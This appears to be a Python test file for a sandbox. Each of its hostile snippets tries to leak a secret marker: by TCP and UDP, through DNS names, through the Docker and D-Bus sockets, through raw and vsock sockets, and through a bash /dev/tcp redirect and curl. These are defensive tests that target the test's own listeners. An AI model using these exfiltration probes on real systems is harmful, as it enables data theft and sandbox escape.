"""Ideas that send something out. What they may reach is the test's own ears, and nobody else's."""

from tests.corpus import Work
from tests.hostile import begin, hostile

CALL = """
import socket

def call(family, kind, address, text=MARK):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(0.3)
            line.connect(address)
            line.sendall(text.encode())
            print(REACHED, address)
    except OSError as error:
        print(address, type(error).__name__, error)

"""


@hostile()
def calls_by_tcp(work: Work) -> None:
    """Sends to a server on this machine, and to one elsewhere, by TCP over IPv4 and IPv6."""
    begin(
        work,
        CALL
        + """
call(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", EAR_TCP))
call(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))
call(socket.AF_INET6, socket.SOCK_STREAM, ("::1", EAR_TCP6))
for port in range(8888, 8892):
    call(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
""",
    )


@hostile()
def calls_by_udp(work: Work) -> None:
    """Sends a datagram to this machine."""
    begin(
        work,
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            for address in ("127.0.0.1", EAR_UDP), ("192.0.2.1", 53), ("255.255.255.255", EAR_UDP):
                try:
                    line.sendto(MARK.encode(), address)
                except OSError as error:
                    print(address, error)
        """,
    )


@hostile()
def asks_for_names(work: Work) -> None:
    """Sends a secret as a question for the address of a name."""
    begin(
        work,
        """
        import socket

        socket.setdefaulttimeout(1)
        for name in f"{MARK}.invalid", "localhost":
            try:
                found = socket.getaddrinfo(name, 80)
                if name.endswith("invalid"):
                    print(REACHED, found)
            except OSError as error:
                print(name, error)
        """,
    )


@hostile()
def calls_by_a_file(work: Work) -> None:
    """Sends through a socket that is a file, and through those of services of the machine."""
    begin(
        work,
        CALL
        + """
places = [EAR_PATH, "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
          "/run/systemd/private", "/tmp/.X11-unix/X0"]
for place in places:
    call(socket.AF_UNIX, socket.SOCK_STREAM, place, MARK if place == EAR_PATH else "")
""",
    )


@hostile()
def calls_by_a_name(work: Work) -> None:
    """Sends through a socket that has a name and no file."""
    begin(work, CALL + 'call(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + EAR_NAME)')


@hostile()
def calls_by_other_families(work: Work) -> None:
    """Opens sockets of the kinds that belong to no network: raw, packets, virtual machines."""
    begin(
        work,
        CALL
        + """
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1 if family == socket.AF_INET else 0).close()
        print(REACHED, family)
    except OSError as error:
        print(family, error)
for machine in 0, 1, 2:
    try:
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as line:
            line.settimeout(0.3)
            line.connect((machine, 1024))
            print(REACHED)
    except ConnectionResetError:  # somebody has answered
        print(REACHED)
    except (AttributeError, OSError) as error:
        print(error)
""",
    )


@hostile()
def calls_by_other_programs(work: Work) -> None:
    """Lets other programs send: a shell, a browser, an installer of packages."""
    begin(
        work,
        """
        import subprocess
        import sys

        address = f"http://127.0.0.1:{EAR_TCP}/{MARK}"
        visit = f"import urllib.request as r; r.urlopen({address!r}, timeout=1)"
        commands = (
            ["bash", "-c", f"echo {MARK} > /dev/tcp/127.0.0.1/{EAR_TCP}"],
            ["curl", "-m", "1", address],
            [sys.executable, "-c", visit],
        )
        for command in commands:
            try:
                done = subprocess.run(command, capture_output=True, text=True, timeout=2)
                print(command[0], done.returncode)
            except (OSError, subprocess.SubprocessError) as error:
                print(command[0], type(error).__name__)
        """,
    )
